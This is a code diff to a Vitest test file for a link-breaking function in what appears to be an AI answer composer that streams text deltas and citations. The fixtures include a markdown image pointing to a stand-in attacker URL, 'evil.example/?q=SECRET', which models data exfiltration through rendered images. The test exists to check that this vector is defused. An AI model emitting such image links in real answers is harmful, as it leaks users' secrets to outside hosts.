@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { breakLinks, openLinkBreaker } from './break-links.ts';
+import { citeQuote } from '../../knowledge/quotes/cite-quote.ts';
 import type { Composed, Piece } from './composer.ts';
 
 const evil = 'https://evil.example/?q=SECRET';
@@ -132,12 +133,13 @@ describe('S18: links and pictures', () => {
 describe('an answer', () => {
   async function* made(...pieces: Piece[]): AsyncGenerator<Piece, Composed> {
     yield* pieces;
-    return { trainingIds: ['a'] };
+    return { corrections: [], certainty: 'answered' };
   }
 
   test('has its text broken across deltas, and its citations as they stand on the page', async () => {
     const quote = `![x](${evil})`;
-    const citation = { documentId: 'd', name: 'd.md', pageNumber: 1, quote };
+    const source = { documentId: 'd', name: 'd.md', pageNumber: 1 };
+    const citation = citeQuote(source, quote, quote);
     const given: Piece[] = [
       { kind: 'delta', text: '!' },
       { kind: 'citation', citation },
@@ -149,7 +151,7 @@ describe('an answer', () => {
     for (;;) {
       const next = await pieces.next();
       if (next.done === true) {
-        expect(next.value).toEqual({ trainingIds: ['a'] });
+        expect(next.value).toEqual({ corrections: [], certainty: 'answered' });
         break;
       }
       seen.push(next.value);
